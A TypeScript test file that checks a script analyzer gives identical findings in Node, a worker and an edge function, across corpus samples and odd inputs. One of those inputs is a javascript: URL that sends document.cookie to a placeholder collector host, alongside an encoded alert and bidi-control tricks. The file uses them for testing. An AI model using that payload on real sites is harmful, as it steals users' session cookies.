import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { analysisResult } from "@scriptorium/shared-protocol/hub-edge/analysis-result";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as z from "zod";
import { loadCorpus } from "../../corpus/load-corpus.ts";
import type { Half } from "../../corpus/sample.ts";
import { startEdgeAnalyzer } from "./edge-analyzer.ts";
import type { RunningAnalyzer } from "./running-analyzer.ts";
import { startWorkerAnalyzer } from "./worker-analyzer.ts";

/** Inputs that the corpus lacks: texts that are not rated, an address, characters outside of ASCII, and deep nesting. */
const ODDITIES = [
	"let = (",
	"javascript:void(fetch('https://collector.example/?'+encodeURIComponent(document.cookie)))",
	"javascript:%61%6c%65%72%74(1)",
	"// \u202e\u2066 alert\nalert('日本語 🙂 \\ud800');",
	// A browser's worker has half the stack: the depth limit must be the same everywhere.
	...[80, 160, 320, 20_000].map((depth) => `${"(".repeat(depth)}1${")".repeat(depth)}`),
	...[50, 100, 160, 2_000].map((depth) => `${"(()=>{".repeat(depth)}f()${"})()".repeat(depth)}`),
	...[1_000, 2_000].map((depth) => `x = 1${" + y".repeat(depth)}`),
	...[1_000, 2_000].map((depth) => `if (a) {}${" else if (b) {}".repeat(depth)}`),
];

/** One of so many is analyzed in all three places; a soak run analyzes all of them. */
const SHARES: Readonly<Record<Half, number>> =
	process.env.SCRIPTORIUM_SOAK === "1"
		? { tuning: 1, "held-out": 1, seeds: 1 }
		: { tuning: 16, "held-out": 8, seeds: 4 };

/** The value after a JSON round trip. */
const asJson = (value: unknown): unknown => JSON.parse(JSON.stringify(value));

describe("the same script has the same findings in Node, in the hub's worker and in the edge function", () => {
	const folder = mkdtempSync(join(tmpdir(), "scriptorium-analyzer-"));
	const places = new Map<string, RunningAnalyzer>();

	beforeAll(async () => {
		places.set("the edge function", await startEdgeAnalyzer(folder));
		places.set("the hub's worker", await startWorkerAnalyzer());
	}, 240_000);
	afterAll(async () => {
		for (const place of places.values()) await place.stop();
		rmSync(folder, { recursive: true, force: true });
	});

	/** The edge function responds access and verdict beside the result, which are derived from it. */
	function withoutAnswers(response: unknown): unknown {
		if (typeof response !== "object" || response === null) return response;
		return Object.fromEntries(Object.entries(response).filter(([name]) => name !== "access" && name !== "verdict"));
	}

	/** Reports which samples differ, but not how: the held-out set must not be read. */
	async function differences(samples: readonly { readonly file: string; readonly code: string }[]): Promise<string[]> {
		const found: string[] = [];
		for (const { file, code } of samples) {
			const expected = asJson(analyzeScript({ code }));
			if (!z.safeParse(analysisResult, expected).success) found.push(`${file}: no result in Node`);
			for (const [name, place] of places) {
				try {
					expect(asJson(withoutAnswers(await place.analyze(code)))).toEqual(expected);
				} catch {
					found.push(`${file}: ${name} answers something else`);
				}
			}
		}
		return found;
	}

	it.each<Half>(["tuning", "held-out", "seeds"])(
		"on every sample of %s",
		async (half) => {
			const samples = loadCorpus(half).filter((_, index) => index % SHARES[half] === 0);
			expect(samples.length).toBeGreaterThan(10);
			expect(await differences(samples)).toEqual([]);
		},
		300_000,
	);

	it("for code that cannot be rated, too", async () => {
		expect(await differences(ODDITIES.map((code) => ({ file: JSON.stringify(code.slice(0, 60)), code })))).toEqual([]);
	});
});
